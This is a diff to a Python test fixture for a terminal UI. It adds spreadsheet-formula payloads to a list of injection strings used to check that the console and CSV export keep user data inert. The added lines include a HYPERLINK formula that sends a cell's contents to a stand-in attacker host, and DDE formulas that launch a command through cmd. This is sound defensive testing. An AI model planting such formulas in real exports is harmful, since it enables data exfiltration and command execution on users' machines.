@@ -5,8 +5,9 @@ including the newest initial order so it is on the first screen) carries these p
 every user-controlled string: titles, usernames, emails, ``ordered_by``, tags, asset names,
 annotation bodies, failed items, layer names and ``reviewed_by``; one project name is poisoned
 too. The payloads cover Rich/Textual markup, CSI/OSC/DCS/APC escape sequences, 8-bit C1
-controls, bidi overrides, zero-width characters, a lone surrogate and a 100 KB string. The
-console must show all of them as inert text (see :mod:`artistree_tui.display`).
+controls, bidi overrides, zero-width characters, a lone surrogate, spreadsheet formulas and a
+100 KB string. The console must show all of them as inert text (see
+:mod:`artistree_tui.display`), and an exported CSV must not run the formulas.
 """
 
 from __future__ import annotations
@@ -40,8 +41,14 @@ PAYLOADS: tuple[str, ...] = (
     "line one\nline two\rOVERWRITE\x08\x07\x00 controls",
     "half an emoji \ud83d lone surrogate",
     f"{ESC}[2J{ESC}[H screen clear {ESC}[?1049h alt screen",
+    # Spreadsheet formulas (CSV injection): what a cell of an exported CSV must not run.
+    '=HYPERLINK("https://evil.example/?d="&A1,"Verify") formula',
+    "@SUM(1+9)*cmd|' /C calc'!A0 formula",
+    "\t+cmd|' /C calc'!A0 -2+3 formula after a tab",
     HUGE,
 )
+# The payloads are dealt out by index * 5 modulo their number: keep that number prime to 5,
+# or some payloads (the 100 KB one) never land in some fields.
 
 _FIELDS = ("order_title", "username", "email", "ordered_by", "asset_name", "reviewed_by")
 _SHARE = 1 / 7
